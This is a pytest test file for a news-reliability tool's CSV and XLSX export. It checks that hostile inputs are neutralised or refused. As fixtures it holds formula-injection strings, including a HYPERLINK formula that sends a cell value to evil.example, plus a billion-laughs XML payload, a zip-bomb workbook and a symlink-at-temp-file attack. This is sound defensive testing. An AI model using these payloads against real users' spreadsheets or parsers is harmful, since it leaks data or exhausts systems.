"""Spreadsheet outputs: flat columns, no JSON in cells, formula injection neutralised, XLSX limits,
and every format read back the same by summarize."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from tests.batch.conftest import corpus_rows, read_jsonl, write_jsonl
from veracity.batch import BatchJob, InputSpec, read_results, run_batch, summarize_results, writers
from veracity.batch.row import FLAT_COLUMNS
from veracity.cli import app
from veracity.errors import InputError
from veracity.report.schema import PLATFORM_WORDS

HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\tTabbed =1+1",
    "\rCarriage",
]


@pytest.fixture(scope="module")
def results(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One real batch run (fast path) whose rows the writers are fed."""
    folder = tmp_path_factory.mktemp("writers")
    rows = corpus_rows(6)
    rows.append({"id": "empty", "text": ""})
    source = write_jsonl(folder / "in.jsonl", rows)
    out = folder / "out.jsonl"
    run_batch(BatchJob(input=InputSpec.for_path(source), out=out, chunk_size=3))
    return out


def test_csv_has_the_flat_columns_and_no_json(results: Path, tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    writers.write_results(out, read_jsonl(results))
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
    with out.open(encoding="utf-8-sig", newline="") as stream:
        reader = csv.DictReader(stream)
        assert tuple(reader.fieldnames or ()) == FLAT_COLUMNS
        rows = list(reader)
    assert len(rows) == 7
    for row in rows:
        for value in row.values():
            assert not value.lstrip().startswith(("{", "[")), value  # no JSON in a cell
    analysed = [r for r in rows if not r["error"]]
    scored = [r for r in analysed if r["reliability_status"] == "scored"]
    assert scored and all(r["label"] and r["band"].startswith(r["label"]) for r in scored)
    # an article the model does not judge (e.g. too short) says why instead of a score
    assert all(r["reliability_status"] and not r["score"] for r in analysed if r not in scored)
    assert any("Vague attribution / hedging" in r["signals"] for r in analysed)
    assert rows[-1]["error"] == "empty text"


def hostile_rows(results: Path) -> list[dict]:
    rows = read_jsonl(results)
    for row, title in zip(rows, HOSTILE_TITLES, strict=False):
        row["title"] = title
    return rows


def test_formula_cells_are_neutralised_and_read_back_unchanged(
    results: Path, tmp_path: Path
) -> None:
    out = tmp_path / "out.csv"
    writers.write_results(out, hostile_rows(results))
    with out.open(encoding="utf-8-sig", newline="") as stream:
        titles = [row["title"] for row in csv.DictReader(stream)][:6]
    assert titles == ["'" + title for title in HOSTILE_TITLES]
    assert [r["title"] for r in read_results(out)][:6] == HOSTILE_TITLES

    xlsx = tmp_path / "out.xlsx"
    writers.write_results(xlsx, hostile_rows(results))
    sheet = load_workbook(xlsx, read_only=True).worksheets[0]
    cells = [row[2] for row in sheet.iter_rows(min_row=2, max_row=7, values_only=True)]
    assert cells == ["'" + title for title in HOSTILE_TITLES]
    assert all(sheet.cell(row=r, column=3).data_type == "s" for r in range(2, 8))


def test_every_format_reads_back_the_same_for_summarize(results: Path, tmp_path: Path) -> None:
    rows = read_jsonl(results)
    summaries = {}
    for suffix in ("jsonl", "parquet", "csv", "xlsx"):
        out = tmp_path / f"out.{suffix}"
        writers.write_results(out, rows)
        back = list(read_results(out))
        assert [r["id"] for r in back] == [r["id"] for r in rows]
        assert [r["score"] for r in back] == [r["score"] for r in rows]
        summary = summarize_results(back)
        summaries[suffix] = (
            summary.rows,
            summary.errors,
            dict(summary.labels),
            dict(summary.signal_kinds),
            dict(summary.publishers),
            summary.mean_score,
        )
    assert summaries["jsonl"][2] and summaries["jsonl"][3]  # labelled rows, signals counted
    assert all(s == summaries["jsonl"] for s in summaries.values()), summaries


def test_xlsx_continues_on_a_new_sheet_past_the_row_limit(
    results: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(writers, "XLSX_MAX_ROWS", 4)  # header + 3 rows per sheet
    out = tmp_path / "out.xlsx"
    writers.write_results(out, read_jsonl(results))
    workbook = load_workbook(out, read_only=True)
    assert workbook.sheetnames == ["results", "results 2", "results 3"]
    assert [len(list(s.iter_rows())) for s in workbook.worksheets] == [4, 4, 2]
    assert [r["index"] for r in read_results(out)] == list(range(7))


def test_xlsx_cuts_a_cell_over_the_limit_and_says_so(results: Path, tmp_path: Path) -> None:
    rows = read_jsonl(results)
    rows[0]["notes"] = ["x" * 40_000]
    out = tmp_path / "out.xlsx"
    writers.write_results(out, rows)
    sheet = load_workbook(out, read_only=True).worksheets[0]
    notes = next(sheet.iter_rows(min_row=2, max_row=2, values_only=True))[
        FLAT_COLUMNS.index("notes")
    ]
    assert len(notes) == writers.XLSX_MAX_CELL_CHARS
    assert notes.endswith("longer than a spreadsheet cell holds]")


def test_an_id_with_characters_a_worksheet_cannot_hold_is_written_as_their_escapes(
    results: Path, tmp_path: Path
) -> None:
    """Hostile round 11, attack 3: an input's own id is kept as written, and a control
    character in it (or U+FFFF) is one no worksheet can hold: openpyxl refused the cell and
    the whole XLSX write ended in "internal error: IllegalCharacterError" (exit 70, no row
    written, and every rerun the same)."""
    rows = read_jsonl(results)
    hostile = ["\x01ctl", "form\x0cfeed", "a\uffffb", "\x00nul"]
    for row, row_id in zip(rows, hostile, strict=False):
        row["id"] = row_id
    out = tmp_path / "out.xlsx"
    writers.write_results(out, rows)
    back = [r["id"] for r in read_results(out)]
    assert back[:4] == ["\\x01ctl", "form\\x0cfeed", "a\\uffffb", "\\x00nul"]
    assert back[4:] == [r["id"] for r in rows[4:]]


def test_batch_cli_writes_xlsx_and_refuses_other_suffixes(tmp_path: Path) -> None:
    runner = CliRunner()
    source = write_jsonl(tmp_path / "in.jsonl", corpus_rows(3))
    out = tmp_path / "results.xlsx"
    result = runner.invoke(app, ["batch", str(source), "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert [r["id"] for r in read_results(out)] == ["art-0000", "art-0001", "art-0002"]
    result = runner.invoke(app, ["batch", str(source), "--out", str(tmp_path / "r.ods")])
    assert result.exit_code != 0
    assert ".csv or .xlsx" in result.output


def test_unwritable_xlsx_path_is_one_clear_error(tmp_path: Path) -> None:
    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder", encoding="utf-8")
    source = write_jsonl(tmp_path / "in.jsonl", corpus_rows(2))
    result = CliRunner().invoke(app, ["batch", str(source), "--out", str(blocker / "results.xlsx")])
    assert result.exit_code != 0
    assert "error:" in result.output and "Traceback" not in result.output
    assert isinstance(result.exception, SystemExit)


def test_csv_that_is_not_a_results_file_is_refused(tmp_path: Path) -> None:
    other = tmp_path / "other.csv"
    other.write_text("name,value\na,1\n", encoding="utf-8")
    with pytest.raises(InputError, match="no index, score or analysis_path column"):
        list(read_results(other))


def test_a_results_line_nested_too_deeply_is_an_input_error(tmp_path: Path) -> None:
    """Hostile round 3: `veracity summarize` of such a line ended in a RecursionError."""
    path = tmp_path / "results.jsonl"
    path.write_text('{"index": ' + "[" * 100_000 + "]" * 100_000 + "}\n", encoding="utf-8")
    with pytest.raises(InputError, match="line 1 is not JSON"):
        list(read_results(path))


def test_a_results_csv_with_a_long_cell_is_read_and_a_broken_one_is_an_input_error(
    results: Path, tmp_path: Path
) -> None:
    """Hostile round 4: `veracity summarize` of a results CSV with one cell over csv's default
    limit (128 KiB: the signals column of a long article, or an edited file) ended in
    "internal error: Error: field larger than field limit", exit 70."""
    out = tmp_path / "out.csv"
    writers.write_results(out, read_jsonl(results))
    with out.open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.DictReader(stream))
    rows[0]["notes"] = "a long note " * 20_000  # 240,000 characters
    with out.open("w", encoding="utf-8-sig", newline="") as stream:
        writer = csv.DictWriter(stream, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    assert len(list(read_results(out))) == len(rows)
    with out.open("a", encoding="utf-8", newline="") as stream:
        stream.write('7,"' + "x" * (50 * 2**20))  # an unterminated cell past the limit
    with pytest.raises(InputError, match=r"out.csv line \d+: field larger than field limit"):
        list(read_results(out))


def _rewrite_member(xlsx: Path, member: str, change) -> None:
    import zipfile

    with zipfile.ZipFile(xlsx) as original:
        parts = {name: original.read(name) for name in original.namelist()}
    parts[member] = change(parts[member].decode("utf-8")).encode("utf-8")
    with zipfile.ZipFile(xlsx, "w") as rewritten:
        for name, data in parts.items():
            rewritten.writestr(name, data)


_LAUGHS = (
    "<!DOCTYPE worksheet [<!ENTITY lol0 'lol'>"
    + "".join(f"<!ENTITY lol{i} '{f'&lol{i - 1};' * 10}'>" for i in range(1, 10))
    + "]>"
)


@pytest.mark.parametrize(
    ("member", "change"),
    [
        # a billion laughs in the sheet: expat stops the expansion with a ParseError
        (
            "xl/worksheets/sheet1.xml",
            lambda xml: _LAUGHS + xml.replace("<t>index</t>", "<t>&lol9;</t>", 1),
        ),
        # malformed XML in the workbook part: lxml's XMLSyntaxError while opening
        ("xl/workbook.xml", lambda xml: xml[: len(xml) // 2]),
        ("xl/worksheets/sheet1.xml", lambda xml: xml[: len(xml) // 2]),
    ],
)
def test_a_hostile_results_xlsx_is_an_input_error(
    results: Path, tmp_path: Path, member, change
) -> None:
    """Hostile round 4: `veracity summarize` of an XLSX whose XML was malformed or expanded
    entities ended in "internal error: ParseError" / "XMLSyntaxError", exit 70."""
    out = tmp_path / "out.xlsx"
    writers.write_results(out, read_jsonl(results))
    _rewrite_member(out, member, change)
    with pytest.raises(InputError, match=r"out\.xlsx is not a readable XLSX file"):
        list(read_results(out))


@pytest.mark.parametrize("member", ["xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"])
def test_a_zip_bomb_results_xlsx_is_refused_in_bounded_memory(
    results: Path, tmp_path: Path, member: str
) -> None:
    """Hostile round 5: a results XLSX of about 1 MB whose sheet held one cell of 1 GiB of "a"
    took `veracity summarize` past 2.7 GB of memory ("internal error: MemoryError" under a
    3 GB limit, exit 70): openpyxl holds a cell's whole text, and every shared string, in
    memory. Here one cell (or shared string) of 64 MiB, 64 KiB compressed."""
    import tracemalloc
    import zipfile

    out = tmp_path / "out.xlsx"
    writers.write_results(out, read_jsonl(results))
    with zipfile.ZipFile(out) as original:
        parts = {name: original.read(name) for name in original.namelist()}
    huge = b"<t>" + b"a" * (64 << 20) + b"</t>"
    if member.endswith("sheet1.xml"):
        parts[member] = parts[member].replace(b"<t>index</t>", huge, 1)
    else:
        parts[member] = (
            b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si>'
            + huge
            + b"</si></sst>"
        )
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as rewritten:
        for name, data in parts.items():
            rewritten.writestr(name, data)
    del parts, huge
    tracemalloc.start()
    try:
        with pytest.raises(InputError, match=r"out\.xlsx is not a readable XLSX file: .* zip bomb"):
            list(read_results(out))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 16 << 20


def _read_fifo_in_background(fifo: Path):
    import threading

    received: list[bytes] = []

    def drain() -> None:
        with fifo.open("rb") as stream:
            received.append(stream.read())

    thread = threading.Thread(target=drain, daemon=True)
    thread.start()
    return thread, received


@pytest.mark.parametrize("name", ["summary.html", "out.xlsx", "out.csv"])
def test_a_device_or_pipe_as_the_output_is_written_through_not_replaced(
    results: Path, tmp_path: Path, name: str
) -> None:
    """Hostile round 4: outputs are written to a temporary file and renamed over the target,
    so `veracity summarize results.jsonl --html /dev/null` run as root put a regular file in
    place of the system's /dev/null (seen with /dev/full); a FIFO is the same case, testable
    without root: it was replaced by a file and its reader got nothing."""
    import os
    import stat

    from veracity.batch import write_summary_html

    fifo = tmp_path / name
    os.mkfifo(fifo)
    thread, received = _read_fifo_in_background(fifo)
    if name.endswith(".html"):
        write_summary_html(results, fifo)
    else:
        writers.write_results(fifo, read_jsonl(results))
    thread.join(timeout=10)
    assert stat.S_ISFIFO(fifo.lstat().st_mode)
    assert received and received[0].startswith((b"<!DOCTYPE html>", b"PK", b"\xef\xbb\xbfindex"))
    assert not list(tmp_path.glob(f".{name}.tmp-*"))


@pytest.mark.parametrize("name", ["summary.html", "out.xlsx", "out.csv", "out.parquet"])
def test_a_link_planted_at_the_temporary_name_is_not_written_through(
    results: Path, tmp_path: Path, name: str
) -> None:
    """Hostile round 5: an output went first to ``.NAME.tmp-PID`` beside it, opened by
    following links; in a folder others can write (an output under /tmp) a link planted at
    that name for each likely process id had veracity write its output into the file the link
    named (here one of this user's own). The temporary file is now created afresh under a name
    no one can foretell; a planted link is left alone."""
    import os

    from veracity.batch import write_summary_html

    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n", encoding="utf-8")
    out = tmp_path / name
    planted = tmp_path / f".{name}.tmp-{os.getpid()}"
    planted.symlink_to(victim)
    if name.endswith(".html"):
        write_summary_html(results, out)
    else:
        writers.write_results(out, read_jsonl(results))
    assert victim.read_text(encoding="utf-8") == "precious\n"
    assert out.is_file() and not out.is_symlink() and out.stat().st_size > 0
    assert planted.is_symlink()  # not ours to remove
    assert not [p for p in tmp_path.glob(f".{name}.tmp-*") if p != planted]


def test_the_csv_signals_column_names_kinds_as_reports_do_and_reads_back() -> None:
    """probe s46: `analyze --format csv` wrote "outlet_citation 0.85: Fox" where the terminal
    and the HTML report say "Cited outlet". The column shows the label; reading the row back
    gives the kind's code again, from this column or from an older file's."""
    from veracity.batch.row import BatchRow, TopSignal

    row = BatchRow(
        index=0,
        id="a",
        top_signals=[
            TopSignal(kind="outlet_citation", weight=0.85, quote="Fox"),
            TopSignal(kind="loaded_language", weight=0.28, quote="a 2-1 win: stunning"),
        ],
    )
    cells = row.flat()
    assert cells["signals"] == (
        "Cited outlet 0.85: Fox\nLoaded / emotional language 0.28: a 2-1 win: stunning"
    )
    back = BatchRow.from_flat(cells).top_signals
    assert [(s.kind, s.weight, s.quote) for s in back] == [
        ("outlet_citation", 0.85, "Fox"),
        ("loaded_language", 0.28, "a 2-1 win: stunning"),
    ]
    older = BatchRow.from_flat({**cells, "signals": "outlet_citation 0.85: Fox"}).top_signals
    assert [(s.kind, s.quote) for s in older] == [("outlet_citation", "Fox")]


def test_a_cited_platform_row_says_platform_not_its_rating_and_reads_back(tmp_path: Path) -> None:
    """Probe s48 O2, left by fix2: the reports say "a platform: a post is as reliable as whoever
    posted it" for X, but a batch row's outlets column still printed "factuality low"."""
    from veracity.batch.analysis import analyse_record
    from veracity.batch.readers import InputRecord
    from veracity.batch.row import BatchRow, OutletBrief
    from veracity.batch.summary import rating_text

    text = (
        "The team's coach said on Sunday that the injured quarterback would miss the game. "
        "The league confirmed the decision in a post: https://twitter.com/NFL/status/1065846425 "
        "and the club said it would appeal. " * 3
    )
    row = analyse_record(InputRecord(index=0, id="x", text=text), "fast")
    cited = [o for o in row.outlets if o.domain == "twitter.com"]
    assert cited and cited[0].platform, row.outlets
    line = [line for line in str(row.flat()["outlets"]).split("\n") if "twitter.com" in line]
    assert line == [f"cited: {cited[0].outlet} (twitter.com) - {PLATFORM_WORDS}"]
    assert row.record()["outlets"][0]["platform"] is True
    back = BatchRow.from_flat(row.flat())
    assert [(o.outlet, o.platform) for o in back.outlets] == [(cited[0].outlet, True)]
    # an outlet that is no platform keeps its rating in the line, and a row is written
    # without "platform" where no outlet is one; an older file's lines read back as before
    old = BatchRow(index=1, outlets=[OutletBrief(outlet="Reuters", domain="reuters.com")])
    assert "platform" not in old.record()["outlets"][0]
    flat = old.flat()
    assert flat["outlets"] == "cited: Reuters (reuters.com) - factuality unknown, bias unknown"
    assert BatchRow.from_flat(flat).outlets == old.outlets
    # the summary (read from CSV too) names it a platform, not "low / center"
    out = tmp_path / "out.csv"
    writers.write_results(out, [row.record()])
    summary = summarize_results(read_results(out))
    assert rating_text(summary.outlet_ratings[cited[0].outlet], " / ") == "a platform"


def test_a_file_names_formula_in_the_id_column_is_neutralised(
    results: Path, tmp_path: Path
) -> None:
    """Hostile round 17, held: a batch folder's file names are the rows' ids, so a document
    named `=HYPERLINK("http:||evil.example","x").txt` or `@SUM(1+1).txt` puts a formula in the
    id column: the CSV and XLSX cells hold it as text, and it reads back as it was."""
    rows = read_jsonl(results)[:3]
    names = ['=HYPERLINK("http:||evil.example","x").txt', "@SUM(1+1).txt", "-2+3.txt"]
    for row, name in zip(rows, names, strict=True):
        row["id"] = name
    out = tmp_path / "out.csv"
    writers.write_results(out, rows)
    with out.open(encoding="utf-8-sig", newline="") as stream:
        assert [row["id"] for row in csv.DictReader(stream)] == ["'" + n for n in names]
    assert [r["id"] for r in read_results(out)] == names
    xlsx = tmp_path / "out.xlsx"
    writers.write_results(xlsx, rows)
    sheet = load_workbook(xlsx, read_only=True).worksheets[0]
    assert [row[1] for row in sheet.iter_rows(min_row=2, max_row=4, values_only=True)] == [
        "'" + n for n in names
    ]
